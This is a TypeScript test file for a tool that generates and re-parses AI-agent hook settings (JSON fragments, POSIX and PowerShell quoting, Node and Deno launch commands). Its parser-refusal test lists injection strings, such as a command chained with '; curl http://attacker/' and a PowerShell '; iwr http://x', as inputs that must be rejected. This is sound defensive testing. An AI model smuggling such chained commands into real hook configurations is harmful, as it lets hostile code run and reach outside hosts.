// `hook settings` fragments (hooks.md §5): exact JSON, POSIX `exec '…'` and PowerShell
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
// `& '…'` quoting, timeout 8000, names, status messages, bundle launch forms, shell path rules.
import { describe, expect, test } from 'bun:test';
import { hookCommand, type HookLauncher, type HookSettingsRequest, hookSettingsFragment, isAbsoluteForShell, parseHookCommand, quoteForShell } from '../../src/hooks/settings.ts';

const EXE = { kind: 'executable', path: '/opt/external-context/bin/external-context' } as const;

describe('hookSettingsFragment()', () => {
  test('auto-recall, POSIX: the exact fragment of hooks.md §5 with a trailing newline', () => {
    const fragment = hookSettingsFragment({ kind: 'auto-recall', shell: 'posix', config: '/etc/external-context/auto-recall.json' }, EXE);
    expect(fragment).toBe(
      `${JSON.stringify(
        {
          hooks: {
            UserPromptSubmit: [
              {
                matcher: '*',
                hooks: [
                  {
                    type: 'command',
                    command: "exec '/opt/external-context/bin/external-context' hook auto-recall --config '/etc/external-context/auto-recall.json'",
                    timeout: 8000,
                    name: 'external-context-auto-recall',
                    statusMessage: 'Retrieving external context',
                  },
                ],
              },
            ],
          },
        },
        null,
        2,
      )}\n`,
    );
    expect(fragment.startsWith('{\n  "hooks": {\n    "UserPromptSubmit": [')).toBe(true);
  });

  test('auto-recall without --config relies on QWEN_EXTERNAL_CONTEXT_CONFIG: no --config in the command', () => {
    expect(hookCommand({ kind: 'auto-recall', shell: 'posix' }, EXE)).toBe("exec '/opt/external-context/bin/external-context' hook auto-recall");
  });

  test('write, POSIX: PreToolUse, exact matcher, name and status message; default server name omitted', () => {
    const parsed = JSON.parse(hookSettingsFragment({ kind: 'write', shell: 'posix' }, EXE)) as unknown;
    expect(parsed).toEqual({
      hooks: {
        PreToolUse: [
          {
            matcher: 'mcp__external-context__context_remember',
            hooks: [
              {
                type: 'command',
                command: "exec '/opt/external-context/bin/external-context' hook write-confirmation",
                timeout: 8000,
                name: 'external-context-memory-write-confirmation',
                statusMessage: 'Confirming external memory write',
              },
            ],
          },
        ],
      },
    });
    expect(hookCommand({ kind: 'write', shell: 'posix', serverName: 'external-context' }, EXE)).not.toContain('--server-name');
  });

  test('write with another server name: matcher and --server-name follow it', () => {
    const fragment = hookSettingsFragment({ kind: 'write', shell: 'posix', serverName: 'ec' }, EXE);
    const entry = (JSON.parse(fragment) as { hooks: { PreToolUse: [{ matcher: string; hooks: [{ command: string }] }] } }).hooks.PreToolUse[0];
    expect(entry.matcher).toBe('mcp__ec__context_remember');
    expect(entry.hooks[0].command).toBe("exec '/opt/external-context/bin/external-context' hook write-confirmation --server-name 'ec'");
  });

  test('PowerShell: the & form with single quotes, and "shell": "powershell" right after command', () => {
    const fragment = hookSettingsFragment(
      { kind: 'auto-recall', shell: 'powershell', config: "C:\\ProgramData\\o'brien\\auto-recall.json" },
      { kind: 'executable', path: 'C:\\Program Files\\external-context\\external-context.exe' },
    );
    const entry = (JSON.parse(fragment) as { hooks: { UserPromptSubmit: [{ hooks: [Record<string, unknown>] }] } }).hooks.UserPromptSubmit[0].hooks[0];
    expect(Object.keys(entry)).toEqual(['type', 'command', 'shell', 'timeout', 'name', 'statusMessage']);
    expect(entry['shell']).toBe('powershell');
    expect(entry['timeout']).toBe(8000);
    expect(entry['command']).toBe("& 'C:\\Program Files\\external-context\\external-context.exe' hook auto-recall --config 'C:\\ProgramData\\o''brien\\auto-recall.json'");
  });

  test("POSIX quoting turns a single quote into '\\''", () => {
    expect(quoteForShell('posix', "/opt/it's/ec")).toBe("'/opt/it'\\''s/ec'");
    expect(quoteForShell('powershell', "C:\\it's")).toBe("'C:\\it''s'");
  });

  test('bundle mode names the runtime and the bundle: Node and Deno', () => {
    expect(hookCommand({ kind: 'auto-recall', shell: 'posix' }, { kind: 'node-bundle', runtimePath: '/usr/bin/node', bundlePath: '/opt/ec/external-context.mjs' })).toBe(
      "exec '/usr/bin/node' '/opt/ec/external-context.mjs' hook auto-recall",
    );
    expect(hookCommand({ kind: 'write', shell: 'posix' }, { kind: 'deno-bundle', runtimePath: '/usr/bin/deno', bundlePath: '/opt/ec/external-context.mjs' })).toBe(
      "exec env DENO_NO_UPDATE_CHECK=1 '/usr/bin/deno' run --no-prompt --allow-read --allow-env --allow-net '/opt/ec/external-context.mjs' hook write-confirmation",
    );
    expect(hookCommand({ kind: 'write', shell: 'powershell' }, { kind: 'deno-bundle', runtimePath: 'C:\\deno\\deno.exe', bundlePath: 'C:\\ec\\external-context.mjs' })).toBe(
      "$env:DENO_NO_UPDATE_CHECK='1'; & 'C:\\deno\\deno.exe' run --no-prompt --allow-read --allow-env --allow-net 'C:\\ec\\external-context.mjs' hook write-confirmation",
    );
    expect(hookCommand({ kind: 'write', shell: 'powershell' }, { kind: 'node-bundle', runtimePath: 'C:\\node\\node.exe', bundlePath: 'C:\\ec\\external-context.mjs' })).toBe(
      "& 'C:\\node\\node.exe' 'C:\\ec\\external-context.mjs' hook write-confirmation",
    );
  });
});

test.skipIf(process.platform === 'win32')('the generated Deno command runs under sh with DENO_NO_UPDATE_CHECK=1 in the runtime environment', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ec-deno-env-'));
  try {
    const fakeDeno = join(dir, "fake deno's");
    writeFileSync(fakeDeno, '#!/bin/sh\nprintf "%s|%s" "$DENO_NO_UPDATE_CHECK" "$1"\n');
    chmodSync(fakeDeno, 0o755);
    const command = hookCommand({ kind: 'auto-recall', shell: 'posix' }, { kind: 'deno-bundle', runtimePath: fakeDeno, bundlePath: '/opt/ec/external-context.mjs' });
    const result = spawnSync('/bin/sh', ['-c', command], { encoding: 'utf8', env: { PATH: process.env['PATH'] ?? '' } });
    expect(result.stdout).toBe('1|run');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

// F4 of the break report: check --settings reads the command back and accepts only what
// hook settings prints, exactly.
describe('parseHookCommand()', () => {
  const launchers: HookLauncher[] = [
    EXE,
    { kind: 'executable', path: "/opt/it's/external-context" },
    { kind: 'node-bundle', runtimePath: '/usr/bin/node', bundlePath: '/opt/ec/external-context.mjs' },
    { kind: 'deno-bundle', runtimePath: '/usr/bin/deno', bundlePath: '/opt/ec/external-context.mjs' },
  ];
  const requests: HookSettingsRequest[] = [
    { kind: 'auto-recall', shell: 'posix' },
    { kind: 'auto-recall', shell: 'posix', config: "/etc/ec/it's.json", log: '/var/log/ec.log' },
    { kind: 'write', shell: 'posix', serverName: 'team-memory', host: 'claude' },
    { kind: 'write', shell: 'posix', log: '/var/log/w.log' },
  ];

  test('reads back every command hookCommand prints, for every launcher and both shells', () => {
    for (const launcher of launchers) {
      for (const request of [...requests, ...requests.map((entry) => ({ ...entry, shell: 'powershell' as const }))]) {
        const command = hookCommand(request, launcher);
        const parsed = parseHookCommand(command, request.shell);
        expect(parsed).toBeDefined();
        expect(hookCommand(parsed!.request, parsed!.launcher)).toBe(command);
        expect(parsed!.request.config).toBe(request.config);
        expect(parsed!.request.serverName).toBe(request.serverName);
      }
    }
  });

  test('refuses anything else: a second command, a comment, other flags, other quoting, another shell', () => {
    const base = "exec '/opt/ec/external-context' hook write-confirmation";
    for (const command of [
      `${base} --server-name x; curl http://attacker/ # hook auto-recall`,
      `${base} && curl http://attacker/`,
      `${base} # hook auto-recall`,
      `${base} | tee /tmp/x`,
      `${base} --unknown 'x'`,
      `${base} --server-name 'a' --server-name 'b'`,
      `${base} --server-name`,
      `${base} `,
      `${base}  --log '/var/log/w.log'`,
      `${base} --server-name "x"`,
      `${base} --server-name x`,
      `${base} --host nowhere`,
      'exec "/opt/ec/external-context" hook write-confirmation',
      'exec /opt/ec/external-context hook write-confirmation',
      "sh -c '/opt/ec/external-context' hook write-confirmation",
      "exec '/opt/ec/external-context' hook other",
      "exec 'a' 'b' 'c' hook write-confirmation",
      "& '/opt/ec/external-context' hook write-confirmation",
    ]) {
      expect({ command, parsed: parseHookCommand(command, 'posix') }).toEqual({ command, parsed: undefined });
    }
    expect(parseHookCommand("exec '/opt/ec/external-context' hook write-confirmation", 'powershell')).toBeUndefined();
    expect(parseHookCommand("& '/opt/ec/external-context' hook write-confirmation; iwr http://x", 'powershell')).toBeUndefined();
  });
});

describe('isAbsoluteForShell()', () => {
  test('judges paths by the target shell, whatever the host', () => {
    expect(isAbsoluteForShell('powershell', 'C:\\Program Files\\external-context\\external-context.exe')).toBe(true);
    expect(isAbsoluteForShell('powershell', '\\\\server\\share\\ec.exe')).toBe(true);
    expect(isAbsoluteForShell('powershell', 'ec.exe')).toBe(false);
    expect(isAbsoluteForShell('posix', 'C:\\Program Files\\ec.exe')).toBe(false);
    expect(isAbsoluteForShell('posix', '/opt/ec')).toBe(true);
    expect(isAbsoluteForShell('posix', 'bin/ec')).toBe(false);
  });
});
